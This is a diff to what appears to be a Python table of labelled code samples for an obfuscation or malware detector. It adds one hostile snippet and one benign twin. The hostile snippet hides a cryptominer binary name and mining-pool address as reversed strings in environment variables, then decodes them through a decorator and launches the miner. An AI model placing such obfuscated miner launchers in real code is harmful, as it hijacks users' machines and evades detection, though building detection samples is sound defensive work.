@@ -670,6 +670,13 @@ TABLES = {
         "            return fn([''.join(chr(ord(c) - n) for c in w) for w in words])\n        return inner\n    return deco\n"
         "@shifted(2)\ndef sh(argv):\n    subprocess.run(argv)\n"
         f"sh({', '.join(repr(''.join(chr(ord(c) + 2) for c in w)) for w in MINER.split())})",
+    "settings kept in os.environ, pulled and decoded by a decorator factory, spread into the runner":
+        "import os, subprocess\n"
+        f"os.environ.update({{'P_BIN': 'girmx', 'P_POOL': '3333:ten.elpmaxe.loop'}})\n"
+        "def from_env(*keys):\n    def deco(fn):\n        def w():\n"
+        "            return fn(*(os.environ[k][::-1] for k in keys))\n        return w\n    return deco\n"
+        "@from_env('P_BIN', 'P_POOL')\ndef start(b, p):\n"
+        "    return subprocess.Popen([b, '-o', p, '-u', 'WALLET'])\nproc = start()",
     "a script written to a path made with the process id, then run":
         "import os, base64, subprocess\npath = os.path.join('/tmp', 'job_' + str(os.getpid()) + '.sh')\n"
         f"with open(path, 'w') as fh:\n    fh.write('cd /tmp\\n{MINER}\\n')\nsubprocess.run(['bash', path])",
@@ -730,6 +737,11 @@ TABLES_BENIGN = {
         "import subprocess\ndef staged(*keys):\n    def deco(fn):\n        def w():\n"
         "            return fn(*(k[::-1] for k in keys))\n        return w\n    return deco\n"
         "@staged('ims-aidivn', 'lsv')\ndef start(b, p):\n    return subprocess.Popen([b, '--format', p])\nstart()",
+    "ordinary settings kept in os.environ, pulled by a decorator factory":
+        "import os, subprocess\nos.environ.update({'P_BIN': 'ims-aidivn', 'P_FMT': 'vsc'})\n"
+        "def from_env(*keys):\n    def deco(fn):\n        def w():\n"
+        "            return fn(*(os.environ[k][::-1] for k in keys))\n        return w\n    return deco\n"
+        "@from_env('P_BIN', 'P_FMT')\ndef start(b, f):\n    return subprocess.Popen([b, '--format', f])\nproc = start()",
     "an ordinary function picked from a list written in place": "import os\nwhere = [os.getcwd][0]\nprint(where())",
     "a helper look-up of an ordinary function": "import os\ng = lambda o, n: getattr(o, n[::-1])\nprint(g(os, 'dwcteg')())",
     "a device chosen with os.environ.update and read back":
